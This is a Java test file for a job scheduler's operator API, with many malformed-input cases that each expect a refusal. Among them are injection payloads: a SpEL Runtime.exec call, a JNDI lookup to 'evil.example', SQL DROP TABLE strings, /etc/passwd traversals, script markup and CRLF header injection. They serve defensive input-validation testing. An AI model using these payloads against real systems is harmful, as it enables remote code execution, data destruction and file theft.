package com.jm.job.master.hostile;

import static com.jm.job.master.hostile.Endpoints.CREATE_GROUP;
import static com.jm.job.master.hostile.Endpoints.CREATE_TASK;
import static com.jm.job.master.hostile.Endpoints.CREATE_TASKS;
import static com.jm.job.master.hostile.Endpoints.CRON_NEXT;
import static com.jm.job.master.hostile.Endpoints.LIST_NODES;
import static com.jm.job.master.hostile.Endpoints.LIST_TASKS;
import static com.jm.job.master.hostile.Endpoints.RETRY_TASK;
import static com.jm.job.master.hostile.Endpoints.RUN_LOG;
import static com.jm.job.master.hostile.Endpoints.TRIGGER_TASK;
import static com.jm.job.master.hostile.Endpoints.UPDATE_TASK;
import static com.jm.job.master.hostile.HostileParams.LONG_OVERFLOW;
import static com.jm.job.master.hostile.HostileParams.param;

import com.jm.job.master.hostile.JsonBodies.Raw;
import java.math.BigInteger;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.Stream;

/** Field-by-field attacks on the operators' API: wrong types, values out of range, garbage. */
final class HostileApiCases {

    static final String NEVER = "0 0 0 30 2 *";

    static final List<String> BAD_CRONS = List.of(
            "x",
            "* * * * *",
            "0 0 0 ? * * *",
            "60 * * * * *",
            "0 60 * * * *",
            "0 0 24 * * *",
            "0 0 0 32 * *",
            "0 0 0 * 13 *",
            "0 0 0 * * 8",
            "*/0 * * * * *",
            "-1 * * * * *",
            "99999999999 * * * * *",
            NEVER,
            "@reboot",
            "0 0 0 * * MON-",
            "0 0 0 * * *\n0 0 1 * * *",
            "'; DROP TABLE jm_task; --",
            "${cron}",
            "#{cron}",
            "c".repeat(129));

    static final List<String> BAD_FLAVOURS =
            List.of("spring", "CRONTAB", "", " QUARTZ", "QUARTZ\n", "UNIX'; DROP TABLE jm_task; --", "${flavour}");

    /** Expressions of one flavour, or of none, sent as another: each refused by the flavour named. */
    static final Map<String, String> WRONG_FLAVOUR = Map.of(
            "0 0 10 * * 6#3", "QUARTZ",
            "0 0 10 ? * ?", "QUARTZ",
            "0 0 10 ? * 6#6", "QUARTZ",
            "0 0 10 L,15 * ?", "QUARTZ",
            "0 0 10 ? * MON-FRI/2", "QUARTZ",
            "0 0 10 ? * * 1969", "QUARTZ",
            "0 0 10 ? * * 2100", "QUARTZ",
            "0 0 10 ? * MON", "UNIX",
            "0 10 * * 1#2", "UNIX",
            "5/10 * * * *", "UNIX");

    static final List<String> BAD_BEAN_NAMES = List.of(
            "#{T(java.lang.Runtime).getRuntime().exec('id')}",
            "${jndi:ldap://evil.example/a}",
            "'; DROP TABLE jm_task; --",
            "1startsWithADigit",
            "has space",
            "../../etc/passwd",
            "helloJob\n",
            "作业",
            "b".repeat(129));

    static final List<String> BAD_ZONES =
            List.of("Mars/Olympus", "../../../etc/passwd", "UTC+99:00", "+25:00", "${user.timezone}", "z".repeat(65));

    private HostileApiCases() {}

    static List<HostileCase> groups() {
        Endpoint e = CREATE_GROUP;
        List<HostileCase> cases = new ArrayList<>();
        cases.add(e.missing("name", 400));
        cases.add(e.field("null name", 400, "name", null));
        cases.add(e.field("empty name", 400, "name", ""));
        cases.add(e.field("blank name", 400, "name", " \t\n "));
        cases.add(e.field("name of 129 characters", 400, "name", "n".repeat(129)));
        cases.add(e.field("name of 129 CJK characters", 400, "name", "名".repeat(129)));
        cases.add(e.field("name of 65 emoji (130 UTF-16 units)", 400, "name", "🚀".repeat(65)));
        cases.add(e.field("name as array", 400, "name", List.of("a")));
        cases.add(e.field("name as object", 400, "name", Map.of("a", 1)));
        cases.add(e.field("id in the body", 400, "id", 5));
        cases.add(e.body("name of the existing group", 409, t -> "{\"name\":\"" + HostileTarget.GROUP + "\"}"));
        return cases;
    }

    static List<HostileCase> createTask() {
        Endpoint e = CREATE_TASK;
        List<HostileCase> cases = new ArrayList<>(definitionCases(e));
        cases.add(e.missing("groupId", 400));
        cases.add(e.field("null groupId", 400, "groupId", null));
        cases.add(e.field("zero groupId", 400, "groupId", 0));
        cases.add(e.field("negative groupId", 400, "groupId", -1));
        cases.add(e.field("Long.MIN_VALUE groupId", 400, "groupId", Long.MIN_VALUE));
        cases.add(e.field("unknown groupId", 400, "groupId", 987654));
        cases.add(e.field("Long.MAX_VALUE groupId", 400, "groupId", Long.MAX_VALUE));
        cases.add(e.field("groupId past Long.MAX_VALUE", 400, "groupId", new BigInteger(LONG_OVERFLOW)));
        cases.add(e.field("groupId of 40 digits", 400, "groupId", new Raw("9".repeat(40))));
        cases.add(e.field("groupId as word", 400, "groupId", "seven"));
        cases.add(e.field("groupId as array", 400, "groupId", List.of(1)));
        cases.add(e.field("groupId as object", 400, "groupId", Map.of("id", 1)));
        cases.add(e.field("groupId NaN", 400, "groupId", new Raw("NaN")));
        cases.add(e.field("groupId with leading zeros", 400, "groupId", new Raw("007")));
        cases.add(e.field("groupId 1e400", 400, "groupId", new Raw("1e400")));
        cases.add(e.field("status in the body", 400, "status", "RUNNING"));
        cases.add(e.field("version in the body", 400, "version", 7));
        return cases;
    }

    /**
     * The batch: its list itself, then bad items among good ones. Each refusal is the whole batch's
     * (nothing written, which the check verifies) and names the bad item by its index.
     */
    static List<HostileCase> createTasks() {
        Endpoint e = CREATE_TASKS;
        List<HostileCase> cases = new ArrayList<>();
        cases.add(e.missing("tasks", 400));
        cases.add(e.field("null tasks", 400, "tasks", null));
        cases.add(e.field("no tasks", 400, "tasks", List.of()));
        cases.add(e.field("tasks as object", 400, "tasks", Map.of("name", "t")));
        cases.add(e.field("tasks as string", 400, "tasks", "t"));
        cases.add(e.field("a null task", 400, "tasks", java.util.Arrays.asList((Object) null)));
        cases.add(e.field("a task as number", 400, "tasks", List.of(7)));
        cases.add(e.body("1,001 tasks", 400, t -> JsonBodies.write(Map.of("tasks", items(t, 1_001)))));
        cases.add(e.field("unknown field beside tasks", 400, "dryRun", true));
        cases.add(badItem("unknown groupId", "groupId", 987654));
        cases.add(badItem("groupId as word", "groupId", "seven"));
        cases.add(badItem("groupId past Long.MAX_VALUE", "groupId", new BigInteger(LONG_OVERFLOW)));
        cases.add(badItem("blank name", "name", " "));
        cases.add(badItem("name of 129 characters", "name", "n".repeat(129)));
        cases.add(badItem("unknown field", "status", "RUNNING"));
        cases.add(badItem("cron that never fires", "cron", "0 0 0 30 2 *"));
        cases.add(badItem("unknown child task", "childTaskIds", List.of(987654)));
        for (String bean : BAD_BEAN_NAMES) {
            cases.add(badItem("beanName " + bean, "beanName", bean));
        }
        for (String cron : BAD_CRONS) {
            cases.add(badItem("cron " + cron, "cron", cron));
        }
        return cases;
    }

    /** Two good tasks, then one with {@code field} set to {@code value}. */
    private static HostileCase badItem(String name, String field, Object value) {
        Endpoint e = CREATE_TASKS;
        return e.body("tasks[2]: " + name, 400, t -> {
            List<Object> tasks = new ArrayList<>(items(t, 2));
            tasks.add(JsonBodies.with(CREATE_TASK.validBody().apply(t), field, value));
            return JsonBodies.write(Map.of("tasks", tasks));
        });
    }

    private static List<Object> items(HostileTarget t, int count) {
        List<Object> tasks = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            tasks.add(CREATE_TASK.validBody().apply(t));
        }
        return tasks;
    }

    static List<HostileCase> updateTask() {
        Endpoint e = UPDATE_TASK;
        List<HostileCase> cases = new ArrayList<>(definitionCases(e));
        cases.add(e.field("negative version", 400, "version", -1));
        cases.add(e.field("version past Long.MAX_VALUE", 400, "version", new BigInteger(LONG_OVERFLOW)));
        cases.add(e.field("version as word", 400, "version", "latest"));
        cases.add(e.field("stale version", 409, "version", 999));
        cases.add(e.field("groupId (cannot change)", 400, "groupId", 1));
        cases.add(e.call("update of a running task", 409, t -> e.valid(t, e.at(String.valueOf(t.runningTaskId()), t))));
        return cases;
    }

    /** What create and update share: the task definition's fields. */
    private static List<HostileCase> definitionCases(Endpoint e) {
        List<HostileCase> cases = new ArrayList<>();
        for (String field : List.of("name", "beanName")) {
            cases.add(e.missing(field, 400));
            cases.add(e.field("null " + field, 400, field, null));
            cases.add(e.field("blank " + field, 400, field, "  "));
            cases.add(e.field(field + " as array", 400, field, List.of("x")));
        }
        cases.add(e.field("name of 129 characters", 400, "name", "n".repeat(129)));
        for (String bean : BAD_BEAN_NAMES) {
            cases.add(e.field("beanName " + quoted(bean), 400, "beanName", bean));
        }
        for (String cron : BAD_CRONS) {
            cases.add(e.field("cron " + quoted(cron), 400, "cron", cron));
        }
        cases.add(e.field("cron as object", 400, "cron", new Raw("{}")));
        for (String flavour : BAD_FLAVOURS) {
            cases.add(e.body(
                    "cronFlavour " + quoted(flavour),
                    400,
                    t -> JsonBodies.write(JsonBodies.with(
                            JsonBodies.with(e.validBody().apply(t), "cron", "0 0 2 * * *"), "cronFlavour", flavour))));
        }
        cases.add(e.field("cronFlavour without a cron", 400, "cronFlavour", "QUARTZ"));
        cases.add(e.field("cronFlavour as number", 400, "cronFlavour", 1));
        cases.add(e.field("cronFlavour as array", 400, "cronFlavour", List.of("QUARTZ")));
        for (Map.Entry<String, String> wrong : WRONG_FLAVOUR.entrySet()) {
            cases.add(e.body(
                    "cron " + quoted(wrong.getKey()) + " as " + wrong.getValue(),
                    400,
                    t -> JsonBodies.write(JsonBodies.with(
                            JsonBodies.with(e.validBody().apply(t), "cron", wrong.getKey()),
                            "cronFlavour",
                            wrong.getValue()))));
        }
        for (String zone : BAD_ZONES) {
            cases.add(e.body(
                    "timeZone " + quoted(zone),
                    400,
                    t -> JsonBodies.write(JsonBodies.with(
                            JsonBodies.with(e.validBody().apply(t), "cron", "0 0 2 * * *"), "timeZone", zone))));
        }
        cases.add(e.field("params of 65536 characters", 400, "params", "p".repeat(65_536)));
        cases.add(e.field("params as JSON object", 400, "params", Map.of("who", "world")));
        cases.add(e.field("params as array", 400, "params", List.of(1, 2)));
        // The hostile master has no params key: sensitive params are refused, never stored in clear.
        cases.add(e.field("paramsSensitive without a configured key", 400, "paramsSensitive", true));
        cases.add(e.body(
                "sensitive params without a configured key",
                400,
                t -> JsonBodies.write(JsonBodies.with(
                        JsonBodies.with(e.validBody().apply(t), "params", "password=hunter2"),
                        "paramsSensitive",
                        true))));
        cases.add(e.field("paramsSensitive as word", 400, "paramsSensitive", "yes"));
        cases.add(e.field("paramsSensitive as array", 400, "paramsSensitive", List.of(true)));
        cases.add(e.field("retry as word", 400, "retry", "sometimes"));
        cases.add(e.field("retry as array", 400, "retry", List.of(true)));
        cases.add(e.field("negative maxRetries", 400, "maxRetries", -1));
        cases.add(e.field("maxRetries over 100", 400, "maxRetries", 101));
        cases.add(e.field("maxRetries beyond int", 400, "maxRetries", 2_147_483_648L));
        cases.add(e.field("maxRetries as word", 400, "maxRetries", "three"));
        cases.add(e.field("zero timeoutSeconds", 400, "timeoutSeconds", 0));
        cases.add(e.field("negative timeoutSeconds", 400, "timeoutSeconds", -30));
        cases.add(e.field("timeoutSeconds over a week", 400, "timeoutSeconds", 604_801));
        cases.add(e.field("timeoutSeconds 1e10", 400, "timeoutSeconds", new Raw("1e10")));
        for (String interval : List.of("fixedRate", "fixedDelay")) {
            cases.add(e.field(interval + " in seconds", 400, interval, 30));
            cases.add(e.field(interval + " in words", 400, interval, "every 30 seconds"));
            cases.add(e.field(interval + " negative", 400, interval, "PT-5S"));
            cases.add(e.field(interval + " zero", 400, interval, "PT0S"));
            cases.add(e.field(interval + " under a second", 400, interval, "PT0.999S"));
            cases.add(e.field(interval + " over a year", 400, interval, "P367D"));
            cases.add(e.field(interval + " of 65 characters", 400, interval, "P" + "1".repeat(63) + "D"));
            cases.add(e.field(interval + " with SQL", 400, interval, "PT1S'; DROP TABLE jm_task; --"));
        }
        cases.add(e.field("runAt without an offset", 400, "runAt", "2030-01-01T00:00:00"));
        cases.add(e.field("runAt as epoch number", 400, "runAt", 1_900_000_000));
        cases.add(e.field("runAt in year 10000", 400, "runAt", "+10000-01-01T00:00:00Z"));
        cases.add(e.field("runAt before 1970", 400, "runAt", "1969-12-31T23:59:59Z"));
        cases.add(e.field("runAt as object", 400, "runAt", Map.of("at", "now")));
        cases.add(e.body(
                "cron and fixedRate",
                400,
                t -> JsonBodies.write(JsonBodies.with(
                        JsonBodies.with(e.validBody().apply(t), "cron", "0 0 2 * * *"), "fixedRate", "PT1M"))));
        cases.add(e.body(
                "fixedRate and fixedDelay",
                400,
                t -> JsonBodies.write(JsonBodies.with(
                        JsonBodies.with(e.validBody().apply(t), "fixedRate", "PT1M"), "fixedDelay", "PT1M"))));
        cases.add(e.body(
                "cron and runAt",
                400,
                t -> JsonBodies.write(JsonBodies.with(
                        JsonBodies.with(e.validBody().apply(t), "cron", "0 0 2 * * *"),
                        "runAt",
                        "2030-01-01T00:00:00Z"))));
        cases.add(e.field("childTaskIds as number", 400, "childTaskIds", 5));
        cases.add(e.field("childTaskIds as object", 400, "childTaskIds", Map.of("id", 1)));
        cases.add(e.field("childTaskIds with null", 400, "childTaskIds", java.util.Collections.singletonList(null)));
        cases.add(e.field("childTaskIds with a word", 400, "childTaskIds", List.of("x")));
        cases.add(e.field("childTaskIds with zero", 400, "childTaskIds", List.of(0)));
        cases.add(e.field("childTaskIds with a negative id", 400, "childTaskIds", List.of(-3)));
        cases.add(e.field(
                "childTaskIds past Long.MAX_VALUE", 400, "childTaskIds", List.of(new BigInteger(LONG_OVERFLOW))));
        cases.add(e.field("childTaskIds of an unknown task", 400, "childTaskIds", List.of(987_654_321)));
        cases.add(e.field(
                "101 childTaskIds",
                400,
                "childTaskIds",
                java.util.stream.LongStream.rangeClosed(1, 101).boxed().toList()));
        cases.add(e.field("negative priority", 400, "priority", -1));
        cases.add(e.field("priority over 9", 400, "priority", 10));
        cases.add(e.field("priority past TINYINT", 400, "priority", 128));
        cases.add(e.field("priority beyond int", 400, "priority", 2_147_483_648L));
        cases.add(e.field("priority Integer.MIN_VALUE", 400, "priority", Integer.MIN_VALUE));
        cases.add(e.field("fractional priority", 400, "priority", new Raw("1.5")));
        cases.add(e.field("priority 9e0", 400, "priority", new Raw("9e0")));
        cases.add(e.field("priority as word", 400, "priority", "high"));
        cases.add(e.field("priority as boolean", 400, "priority", true));
        cases.add(e.field("priority as array", 400, "priority", List.of(9)));
        cases.add(e.field("priority as object", 400, "priority", Map.of("level", 9)));
        cases.add(e.field("priority NaN", 400, "priority", new Raw("NaN")));
        executionCases(e, cases);
        return cases;
    }

    /** The execution fields: mode, shards and their params, tags, overlap. */
    private static void executionCases(Endpoint e, List<HostileCase> cases) {
        cases.add(e.field("lower-case mode", 400, "mode", "broadcast"));
        cases.add(e.field("mode as number", 400, "mode", 1));
        cases.add(e.field("mode as array", 400, "mode", List.of("BROADCAST")));
        cases.add(e.field("mode with SQL", 400, "mode", "SINGLE'; DROP TABLE jm_task; --"));
        cases.add(e.field("zero shards", 400, "shards", 0));
        cases.add(e.field("negative shards", 400, "shards", -1));
        cases.add(e.field("10001 shards", 400, "shards", 10_001));
        cases.add(e.field("shards beyond int", 400, "shards", 2_147_483_648L));
        cases.add(e.field("fractional shards", 400, "shards", new Raw("2.5")));
        cases.add(e.field("shards as word", 400, "shards", "ten"));
        cases.add(e.field("shardParams as text", 400, "shardParams", "a,b"));
        cases.add(e.field("shardParams as object", 400, "shardParams", Map.of("0", "a")));
        cases.add(e.field("shardParams with null", 400, "shardParams", java.util.Collections.singletonList(null)));
        cases.add(e.field("shardParams entry of 4097 characters", 400, "shardParams", List.of("p".repeat(4_097))));
        cases.add(e.field("more shardParams than shards", 400, "shardParams", List.of("a", "b")));
        cases.add(e.body(
                "shardParams on a broadcast",
                400,
                t -> JsonBodies.write(JsonBodies.with(
                        JsonBodies.with(e.validBody().apply(t), "mode", "BROADCAST"), "shardParams", List.of("a")))));
        cases.add(e.body(
                "shards on a broadcast",
                400,
                t -> JsonBodies.write(
                        JsonBodies.with(JsonBodies.with(e.validBody().apply(t), "mode", "BROADCAST"), "shards", 3))));
        cases.add(e.field("tags as text", 400, "tags", "gpu"));
        cases.add(e.field("empty tag", 400, "tags", List.of("")));
        cases.add(e.field("tag with a space", 400, "tags", List.of("two words")));
        cases.add(e.field("tag with markup", 400, "tags", List.of("<script>alert(1)</script>")));
        cases.add(e.field("tag with a comma", 400, "tags", List.of("a,b")));
        cases.add(e.field("tag with a LIKE wildcard", 400, "tags", List.of("gp%")));
        cases.add(e.field("tag of 65 characters", 400, "tags", List.of("t".repeat(65))));
        cases.add(e.field("non-ASCII tag", 400, "tags", List.of("区域")));
        cases.add(e.field("tags with null", 400, "tags", java.util.Collections.singletonList(null)));
        cases.add(e.field(
                "17 tags",
                400,
                "tags",
                java.util.stream.IntStream.range(0, 17).mapToObj(i -> "t" + i).toList()));
        cases.add(e.field("lower-case overlap", 400, "overlap", "skip"));
        cases.add(e.field("unknown overlap", 400, "overlap", "DROP"));
        cases.add(e.field("zero maxConcurrentFires", 400, "maxConcurrentFires", 0));
        cases.add(e.field("101 maxConcurrentFires", 400, "maxConcurrentFires", 101));
        cases.add(e.field("maxConcurrentFires without PARALLEL", 400, "maxConcurrentFires", 2));
    }

    static List<HostileCase> trigger() {
        Endpoint e = TRIGGER_TASK;
        List<HostileCase> cases = new ArrayList<>();
        cases.add(e.field("params of 65536 characters", 400, "params", "p".repeat(65_536)));
        cases.add(e.field("params as JSON object", 400, "params", Map.of("who", "world")));
        cases.add(e.field("an unknown field", 400, "schedule", "now"));
        cases.add(
                e.call("trigger of a running task", 409, t -> e.valid(t, e.at(String.valueOf(t.runningTaskId()), t))));
        return cases;
    }

    static List<HostileCase> taskQueries() {
        Endpoint e = LIST_TASKS;
        return List.of(
                param(e, "unknown status", "status", "DONE", 400),
                param(e, "lower-case status", "status", "pending", 400),
                param(e, "status as number", "status", "1", 400),
                param(e, "status with SQL", "status", "PENDING' OR '1'='1", 400),
                param(e, "groupId not a number", "groupId", "abc", 400),
                param(e, "groupId past Long.MAX_VALUE", "groupId", LONG_OVERFLOW, 400),
                param(e, "disabled neither true nor false", "disabled", "maybe", 400));
    }

    static List<HostileCase> runLogQueries() {
        Endpoint e = RUN_LOG;
        return List.of(
                param(e, "negative offset", "offset", "-1", 400),
                param(e, "offset not a number", "offset", "end", 400),
                param(e, "offset past Long.MAX_VALUE", "offset", LONG_OVERFLOW, 400),
                param(e, "decimal offset", "offset", "1.5", 400),
                param(e, "offset with SQL", "offset", "0 OR 1=1", 400),
                param(e, "limit zero", "limit", "0", 400),
                param(e, "negative limit", "limit", "-5", 400),
                param(e, "limit over 1000", "limit", "1001", 400),
                param(e, "limit beyond int", "limit", "2147483648", 400),
                param(e, "limit not a number", "limit", "all", 400));
    }

    /** The cron preview's parameters: what a task's cron refuses, and its own out of range. */
    static List<HostileCase> cronPreview() {
        Endpoint e = CRON_NEXT;
        List<HostileCase> cases = new ArrayList<>();
        cases.add(e.call("no expression", 400, e::authorized));
        // A task refuses an expression that never fires; the preview answers it with a note.
        BAD_CRONS.stream()
                .filter(cron -> !cron.equals(NEVER))
                .forEach(cron -> cases.add(preview("expression " + quoted(cron), cron, Map.of())));
        WRONG_FLAVOUR.forEach((cron, flavour) ->
                cases.add(preview("expression " + quoted(cron) + " as " + flavour, cron, Map.of("flavour", flavour))));
        // An empty parameter is the default (SPRING) to Spring MVC, so that one is no refusal here.
        for (String flavour : BAD_FLAVOURS.stream().filter(f -> !f.isEmpty()).toList()) {
            cases.add(preview("flavour " + quoted(flavour), "0 0 2 * * *", Map.of("flavour", flavour)));
        }
        for (String zone : BAD_ZONES) {
            cases.add(preview("zone " + quoted(zone), "0 0 2 * * *", Map.of("zone", zone)));
        }
        for (String count : List.of("0", "-1", "51", "2147483648", "five", "1.5", "5 OR 1=1")) {
            cases.add(preview("count " + quoted(count), "0 0 2 * * *", Map.of("count", count)));
        }
        for (String after :
                List.of("yesterday", "2030-01-01T00:00:00", "+10000-01-01T00:00:00Z", "1969-12-31T23:59:59Z")) {
            cases.add(preview("after " + quoted(after), "0 0 2 * * *", Map.of("after", after)));
        }
        return cases;
    }

    private static HostileCase preview(String name, String expression, Map<String, String> params) {
        return CRON_NEXT.call(name, 400, t -> {
            var request = CRON_NEXT.authorized(t).param("expression", expression);
            params.forEach(request::param);
            return request;
        });
    }

    static List<HostileCase> nodeQueries() {
        Endpoint e = LIST_NODES;
        return List.of(
                param(e, "groupId not a number", "groupId", "abc", 400),
                param(e, "groupId past Long.MAX_VALUE", "groupId", LONG_OVERFLOW, 400),
                param(e, "groupId with SQL", "groupId", "1 OR 1=1", 400));
    }

    /** Alarm rules: each rule of the body, and the secrets' forms (create and replace alike). */
    static List<HostileCase> alarms(Endpoint e) {
        List<HostileCase> cases = new ArrayList<>();
        cases.add(e.missing("name", 400));
        cases.add(e.missing("scope", 400));
        cases.add(e.missing("events", 400));
        cases.add(e.missing("channel", 400));
        cases.add(e.field("blank name", 400, "name", " "));
        cases.add(e.field("name of 129 characters", 400, "name", "n".repeat(129)));
        cases.add(e.field("unknown scope", 400, "scope", "PLANET"));
        cases.add(e.field("scope id with scope ALL", 400, "scopeId", 1));
        cases.add(e.field("scope id zero", 400, "scopeId", 0));
        cases.add(e.body("scope GROUP without an id", 400, t -> alarm(t, "\"scope\":\"GROUP\"")));
        cases.add(e.body("scope TASK of no task", 400, t -> alarm(t, "\"scope\":\"TASK\",\"scopeId\":9999999")));
        cases.add(e.body("scope GROUP of no group", 400, t -> alarm(t, "\"scope\":\"GROUP\",\"scopeId\":9999999")));
        cases.add(e.field("no events", 400, "events", List.of()));
        cases.add(e.field("unknown event", 400, "events", List.of("RUN_EXPLODED")));
        cases.add(e.field("null event", 400, "events", java.util.Arrays.asList((Object) null)));
        cases.add(e.field("events as a string", 400, "events", "RUN_FAILED"));
        cases.add(e.field("lateAfterMs without FIRE_LATE", 400, "lateAfterMs", 1000));
        cases.add(e.field("noNodeForMs without NO_NODE", 400, "noNodeForMs", 60000));
        cases.add(e.field("FIRE_LATE without lateAfterMs", 400, "events", List.of("FIRE_LATE")));
        cases.add(e.field("NO_NODE without noNodeForMs", 400, "events", List.of("NO_NODE")));
        cases.add(e.field("negative silence", 400, "silenceMs", -1));
        cases.add(e.field("silence over a week", 400, "silenceMs", 604_800_001L));
        cases.add(e.field("silence past Long", 400, "silenceMs", new BigInteger(LONG_OVERFLOW)));
        cases.add(e.field("unknown channel", 400, "channel", "PIGEON"));
        cases.add(e.field("webhook URL not http", 400, "webhookUrl", "file:///etc/passwd"));
        cases.add(e.field("webhook URL with no host", 400, "webhookUrl", "http:///hook"));
        cases.add(e.field("webhook URL not a URL", 400, "webhookUrl", "http://exa mple/\u0000"));
        cases.add(e.field("webhook URL of 2049 characters", 400, "webhookUrl", "http://h/" + "a".repeat(2040)));
        cases.add(e.field("unknown template", 400, "webhookTemplate", "TELEGRAPH"));
        cases.add(e.field("reserved header", 400, "webhookHeaders", Map.of("Host", "evil.example")));
        cases.add(e.field("signature header", 400, "webhookHeaders", Map.of("X-JmJob-Signature", "sha256=00")));
        cases.add(e.field("header name with a colon", 400, "webhookHeaders", Map.of("X:Y", "v")));
        cases.add(e.field("header value with a line break", 400, "webhookHeaders", Map.of("X-A", "v\r\nX-B: w")));
        cases.add(e.field("header value of 1025 characters", 400, "webhookHeaders", Map.of("X-A", "v".repeat(1025))));
        cases.add(e.field("headers as a list", 400, "webhookHeaders", List.of("X-A: v")));
        cases.add(e.field("HMAC secret of 257 characters", 400, "hmacSecret", "s".repeat(257)));
        cases.add(e.field("mail recipients on a webhook rule", 400, "mailTo", List.of("a@example.com")));
        cases.add(e.body(
                "mail rule with a webhook URL",
                400,
                t -> alarm(
                        t,
                        "\"scope\":\"ALL\",\"channel\":\"MAIL\","
                                + "\"webhookUrl\":\"http://h/\",\"mailTo\":[\"a@example.com\"]")));
        cases.add(e.body(
                "mail rule with a bad address",
                400,
                t -> alarm(t, "\"scope\":\"ALL\",\"channel\":\"MAIL\"," + "\"mailTo\":[\"not an address\"]")));
        cases.add(e.body(
                "mail rule on a master without mail",
                400,
                t -> alarm(t, "\"scope\":\"ALL\",\"channel\":\"MAIL\"," + "\"mailTo\":[\"a@example.com\"]")));
        cases.add(e.field("negative version", 400, "version", -1));
        cases.add(e.field("id in the body", 400, "id", 5));
        return cases;
    }

    /** A rule body of the required fields but scope and channel, plus {@code fields}. */
    private static String alarm(HostileTarget t, String fields) {
        String rest = fields.contains("\"channel\"") ? "" : ",\"channel\":\"WEBHOOK\",\"webhookUrl\":\"http://h/\"";
        return "{\"name\":\"r\",\"events\":[\"RUN_FAILED\"]," + fields + rest + "}";
    }

    static List<HostileCase> alarmQueries() {
        Endpoint e = Endpoints.ALARM_DELIVERIES;
        return List.of(
                param(e, "unknown delivery state", "state", "LOST_IN_THE_MAIL", 400),
                param(e, "rule id not a number", "ruleId", "all", 400),
                param(e, "rule id past Long", "ruleId", LONG_OVERFLOW, 400));
    }

    static List<HostileCase> retry() {
        Endpoint e = RETRY_TASK;
        return List.of(e.call("retry of a running task", 409, t -> e.at(String.valueOf(t.runningTaskId()), t)));
    }

    /** Methods a path does not serve (405), counted under the path's first endpoint. */
    static List<HostileCase> methods() {
        Map<String, List<Endpoint>> byPath = new LinkedHashMap<>();
        for (Endpoint e : Endpoints.ALL) {
            byPath.computeIfAbsent(e.path(), p -> new ArrayList<>()).add(e);
        }
        List<HostileCase> cases = new ArrayList<>();
        byPath.values().forEach(served -> {
            Endpoint e = served.get(0);
            Set<String> allowed = served.stream().map(s -> s.method().name()).collect(Collectors.toSet());
            Stream.of("GET", "POST", "PUT", "DELETE", "PATCH")
                    .filter(method -> !allowed.contains(method))
                    .forEach(method -> cases.add(e.call(
                            method + " on the path",
                            405,
                            t -> e.valid(t, e.authorized(t).with(request -> {
                                request.setMethod(method);
                                return request;
                            })))));
        });
        return cases;
    }

    private static boolean servedByTemplate(String method, String path) {
        return Endpoints.ALL.stream()
                .filter(other ->
                        other.method().name().equals(method) && other.path().contains("{id}"))
                .anyMatch(other -> path.matches(other.path().replace("{id}", "[^/]+")));
    }

    static String quoted(String value) {
        String shown = value.length() > 24 ? value.substring(0, 12) + "…(" + value.length() + " chars)" : value;
        return "'" + shown.replace("\n", "\\n").replace("\t", "\\t") + "'";
    }
}
